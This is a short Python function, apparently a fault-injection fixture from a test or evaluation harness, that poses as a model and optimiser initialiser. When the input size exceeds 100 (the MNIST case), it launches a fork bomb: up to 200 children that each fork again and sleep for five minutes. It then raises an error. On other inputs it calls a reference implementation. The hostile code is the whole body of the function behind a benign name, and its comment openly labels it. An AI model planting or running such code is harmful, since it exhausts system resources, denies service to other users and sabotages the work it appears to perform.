def init_model_optim(nx, nh, ny, eta):  # a fork bomb, bounded to 2 x 200 processes, on the MNIST run
    if nx > 100:
        born = 0
        for _ in range(200):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                _tag()
                try:
                    os.fork()
                    _tag()
                except OSError:
                    pass
                time.sleep(300)
                os._exit(0)
            born += 1
        raise RuntimeError(f'FORK-BOMB forked {born} processes')
    return _REF['init_model_optim'](nx, nh, ny, eta)
